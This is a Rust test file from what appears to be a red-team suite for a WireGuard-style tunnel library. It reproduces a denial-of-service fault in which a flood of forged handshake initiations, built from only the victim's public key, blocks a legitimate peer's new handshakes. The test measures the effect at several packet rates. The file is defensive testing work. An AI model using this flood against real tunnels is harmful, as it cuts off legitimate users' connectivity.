//! Initiations by whoever knows a public key; the test shows the fault as it stands.
#![allow(clippy::unwrap_used, missing_docs)]

use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::{PublicKey, StaticSecret};
use campfire_tunnel::noise::NoiseTunnels;
use campfire_tunnel::{Command, LinkId, Tunnels};
use zeroize::Zeroizing;

fn initiation(from: [u8; 32], to: &PublicKey, index: u32) -> Vec<u8> {
    let mut tunn = Tunn::new(StaticSecret::from(from), *to, Some([0; 32]), None, index, None);
    let mut out = [0; 256];
    match tunn.format_handshake_initiation(&mut out, true) {
        TunnResult::WriteToNetwork(message) => message.to_vec(),
        _ => panic!(),
    }
}

#[test]
fn red_17_a_public_key_is_enough_to_stop_all_new_handshakes() {
    let secret = Zeroizing::new([7; 32]);
    let public = PublicKey::from(&StaticSecret::from(*secret));
    let mut victim = NoiseTunnels::new(&secret);
    let friend = [9; 32];
    let friends_key = *PublicKey::from(&StaticSecret::from(friend)).as_bytes();
    let mut events = Vec::new();
    victim.execute(Command::Add { link: LinkId(0), public_key: friends_key, preshared: Zeroizing::new([0; 32]) }, &mut events);
    assert_eq!(victim.initiator(&initiation(friend, &public, 1)), Some(friends_key), "before");
    // The attacker has no pre-shared key: only the public key, as `kubectl get meshpeers -o wide` shows it. Made beforehand, of any length of
    // time; 4,000 at once and 2,000 a second suffice (2.4 Mbit/s).
    let flood: Vec<Vec<u8>> = (0..20_000_u32)
        .map(|n| {
            let mut key = [3; 32];
            key[..4].copy_from_slice(&n.to_be_bytes());
            initiation(key, &public, n)
        })
        .collect();
    for message in &flood {
        let _ = victim.initiator(message);
    }
    let friends: Vec<Vec<u8>> = (0..200).map(|n| initiation(friend, &public, 10 + n)).collect();
    for gap in [200_u64, 100, 50, 25, 10] {
        // Packets paced by the clock, a friend's one in a hundred.
        let gap = std::time::Duration::from_micros(gap);
        let (mut next, mut flooded, mut seen, mut tried) = (std::time::Instant::now(), 0_usize, 0, 0);
        let end = next + std::time::Duration::from_secs(2);
        let start = next;
        while std::time::Instant::now() < end {
            while std::time::Instant::now() < next {}
            next += gap;
            let _ = victim.initiator(&flood[flooded % flood.len()]);
            flooded += 1;
            if flooded % 97 == 0 && tried < 200 {
                tried += 1;
                // At a moment of its own, between two of the flood.
                let at = std::time::Instant::now() + gap.mul_f64(f64::from(tried % 7) / 7.0);
                while std::time::Instant::now() < at {}
                seen += usize::from(victim.initiator(&friends[tried as usize - 1]).is_some());
            }
        }
        let rate = flooded as f64 / start.elapsed().as_secs_f64();
        println!(
            "flood of {rate:.0} a second ({:.0} Mbit/s): {seen} of {tried} handshakes of a friend are looked at",
            rate * 148.0 * 8.0 / 1e6
        );
    }
}
